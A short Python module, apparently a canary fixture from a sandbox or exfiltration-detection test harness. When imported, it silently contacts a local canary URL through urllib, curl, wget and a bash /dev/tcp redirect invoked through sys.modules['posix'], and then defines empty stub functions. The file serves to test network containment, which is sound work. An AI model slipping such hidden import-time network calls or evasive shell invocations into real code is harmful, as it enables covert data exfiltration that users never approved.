"""Asks a web server of this machine, by the standard library and by the commands that there may be.

family: exfiltration
aims-at: canary
canary: call 28423
"""

import subprocess
import sys
import urllib.request

URL = "http://127.0.0.1:28423/racecourse-canary-http"


def call():
    try:
        urllib.request.urlopen(URL, timeout=1).read()
    except Exception:
        pass
    for command in (["curl", "-s", "-m", "1", URL], ["wget", "-q", "-T", "1", "-O", "-", URL]):
        try:
            subprocess.run(command, timeout=3, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            continue
    try:
        sys.modules["posix"].system(f"exec 3<>/dev/tcp/127.0.0.1/28423 && echo {URL} >&3")
    except Exception:
        pass


call()


def search(name):
    return None


def buy(name):
    return None


def run(name, mutex):
    return None
